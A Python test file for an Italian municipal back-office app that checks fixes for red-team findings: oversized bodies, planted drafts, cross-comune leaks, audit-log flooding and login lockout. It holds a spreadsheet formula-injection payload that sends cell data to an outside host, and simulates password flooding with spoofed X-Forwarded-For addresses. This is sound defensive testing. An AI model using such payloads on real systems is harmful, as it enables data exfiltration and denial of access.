"""What strangers and curious colleagues send to the back-office (the red team's
findings after issue 9): bodies too big to parse, forms planted for somebody else's next
login, formulas in exported spreadsheets, protocol numbers of other comuni, rows written
by people who never logged in. Through the real ASGI app and a real SQLite file."""

# ruff: noqa: F811
from __future__ import annotations

import html
import re

from backoffice.bodylimit import FORM_LIMIT
from tests.backoffice_fixtures import World
from tests.test_backoffice import (  # the fixtures are used by name
    client_for,
    hidden,
    login,
    template,  # noqa: F401
    world,  # noqa: F401
)


def count(world: World, table: str) -> int:
    return world.db.execute(f"SELECT COUNT(*) FROM {table}").fetchone()[0]


async def test_a_huge_form_is_refused_before_it_is_read_with_or_without_a_session(world: World):
    dossier_id = world.dossiers["delivered"]
    drafts = count(world, "form_drafts")
    big = {"note": "x" * (FORM_LIMIT + 1), "form": "integration"}
    async with client_for(world) as stranger:
        answer = await stranger.post(f"/pratiche/{dossier_id}/integrazione", data=big)
        assert answer.status_code == 413
        assert "troppo grande" in answer.text and "64 KB" in answer.text

        # declared small, sent without a length (chunked): read up to the limit only
        async def chunks():
            for _ in range(100):
                yield b"note=" + b"y" * 4096 + b"&"

        answer = await stranger.post(
            f"/pratiche/{dossier_id}/integrazione",
            content=chunks(),
            headers={"content-type": "application/x-www-form-urlencoded"},
        )
        assert answer.status_code == 413
    async with client_for(world) as client:
        await login(client, world.staff["opera"].email)
        answer = await client.post(f"/pratiche/{dossier_id}/integrazione", data=big)
        assert answer.status_code == 413
        assert (await client.get(f"/pratiche/{dossier_id}")).status_code == 200
    assert count(world, "form_drafts") == drafts


async def test_a_form_posted_without_our_session_keeps_nothing_for_the_next_login(world: World):
    """The red team's planted draft: a cross-site POST without cookies used to be kept and
    shown to whoever logged in next with its `?bozza=` address."""
    dossier_id = world.dossiers["delivered"]
    async with client_for(world) as stranger:
        answer = await stranger.post(
            f"/pratiche/{dossier_id}/integrazione",
            data={
                "form": "integration",
                "note": "Pagate su IT00X",
                "back": f"/pratiche/{dossier_id}",
            },
        )
        assert answer.status_code == 303
        assert "bozza" not in answer.headers["location"]
        stranger.cookies.set("sportello_session", "made-up")
        answer = await stranger.post(
            f"/pratiche/{dossier_id}/integrazione", data={"form": "integration", "note": "x"}
        )
        assert "bozza" not in answer.headers["location"]
    assert count(world, "form_drafts") == 0


async def test_a_draft_is_given_back_only_to_the_staff_member_who_typed_it(world: World):
    dossier_id = world.dossiers["delivered"]
    note = "Manca la busta paga di maggio."
    async with client_for(world) as client:
        await login(client, world.staff["opera"].email)
        csrf = hidden((await client.get(f"/pratiche/{dossier_id}")).text)
        world.clock.advance(hours=8, minutes=1)  # her session ends while she types
        answer = await client.post(
            f"/pratiche/{dossier_id}/integrazione",
            data={
                "csrf": csrf,
                "form": "integration",
                "note": note,
                "back": f"/pratiche/{dossier_id}",
            },
        )
        login_page = await client.get(answer.headers["location"])
        target = html.unescape(re.search(r'name="next" value="([^"]*)"', login_page.text).group(1))  # type: ignore[union-attr]
        assert "bozza=" in target
    # a colleague who also sees Opera, opening that address, gets an empty form
    async with client_for(world) as colleague:
        await login(colleague, world.staff["admin"].email)
        page = await colleague.get(target)
        assert page.status_code == 200 and "Abbiamo ripreso" not in page.text
    # she does
    async with client_for(world) as client:
        await login(client, world.staff["opera"].email)
        page = await client.get(target)
        assert "Abbiamo ripreso quello che avevate scritto" in page.text


async def test_what_people_typed_never_becomes_a_formula_in_the_exports(world: World):
    import csv
    import io

    from openpyxl import load_workbook

    formula = '=HYPERLINK("http://10.0.0.9/?"&F2,"1")'
    async with client_for(world) as stranger:
        failed = await login(stranger, formula, "wrong-password")
        assert failed.status_code == 401
    dossier_id = world.dossiers["delivered"]
    async with client_for(world) as client:
        await login(client, world.staff["admin"].email)
        csrf = hidden((await client.get("/pratiche")).text)
        await client.post(
            f"/pratiche/{dossier_id}/protocollo",
            data={"csrf": csrf, "protocol_number": formula, "protocol_date": "", "confirm": "1"},
        )
        exported = (await client.get("/registro.csv")).content.decode("utf-8-sig")
        cells = [c for row in csv.reader(io.StringIO(exported), delimiter=";") for c in row]
        assert "'=hyperlink" in exported.lower()  # the e-mail typed, as text
        assert not [c for c in cells if c.startswith(("=", "+", "@"))], cells
        notice_id = "visconteo-sud-milano-2025"
        sheet = await client.get(f"/avvisi/{notice_id}/graduatoria.xlsx")
        assert sheet.status_code == 200
        book = load_workbook(io.BytesIO(sheet.content))
        kinds = {c.value: c.data_type for row in book.active.iter_rows() for c in row}
        assert kinds.get(formula) == "s" and "f" not in kinds.values()
        flat = await client.get(f"/avvisi/{notice_id}/graduatoria.csv")
        assert "'=HYPERLINK" in flat.content.decode("utf-8-sig")


async def test_a_protocol_number_used_in_another_comune_says_nothing_about_it(world: World):
    number = "2025/0012345"
    async with client_for(world) as opera:
        await login(opera, world.staff["opera"].email)
        csrf = hidden((await opera.get("/pratiche")).text)
        first = await opera.post(
            f"/pratiche/{world.dossiers['delivered']}/protocollo",
            data={"csrf": csrf, "protocol_number": number, "protocol_date": ""},
        )
        assert first.status_code == 303
    async with client_for(world) as binasco:
        await login(binasco, world.staff["binasco"].email)
        csrf = hidden((await binasco.get("/pratiche")).text)
        answer = await binasco.post(
            f"/pratiche/{world.dossiers['binasco']}/protocollo",
            data={"csrf": csrf, "protocol_number": number, "protocol_date": ""},
        )
        assert answer.status_code == 303  # recorded, no warning naming Opera's dossier
        pasted = await binasco.post(
            "/protocollo", data={"csrf": csrf, "righe": f"{world.dossiers['binasco']};{number};"}
        )
        assert world.dossiers["delivered"] not in pasted.text


async def test_strangers_cannot_grow_the_database_without_end(world: World, monkeypatch):
    from storage import audit

    monkeypatch.setattr(audit, "STRANGER_ROWS_PER_HOUR", 10)
    drafts, rows = count(world, "form_drafts"), count(world, "audit_log")
    async with client_for(world) as stranger:
        for n in range(30):
            await stranger.post("/pratiche/X/nota", data={f"f{j}": "Z" * 100 for j in range(50)})
            await login(stranger, f"x{n}@example.it", "wrong")
    assert count(world, "form_drafts") == drafts
    assert count(world, "audit_log") - rows <= 10


async def test_a_login_waits_its_turn_instead_of_being_locked_out_by_a_stranger(world: World):
    """Strangers keep a password check of her e-mail in flight, from ever new addresses:
    her own logins wait their turn and get in."""
    import asyncio

    email = world.staff["opera"].email
    stop = asyncio.Event()

    async def stranger(n: int) -> None:
        async with client_for(world) as c:
            k = 0
            while not stop.is_set():
                k += 1
                page = await c.get("/login")
                await c.post(
                    "/login",
                    data={"email": email, "password": "wrong", "csrf": hidden(page.text)},
                    headers={"X-Forwarded-For": f"198.51.100.{(n * 50 + k) % 250}"},
                )

    tasks = [asyncio.create_task(stranger(n)) for n in range(3)]
    await asyncio.sleep(0.2)
    codes = []
    for _ in range(3):
        async with client_for(world) as her:
            codes.append((await login(her, email)).status_code)
    stop.set()
    await asyncio.gather(*tasks)
    assert codes == [303, 303, 303]
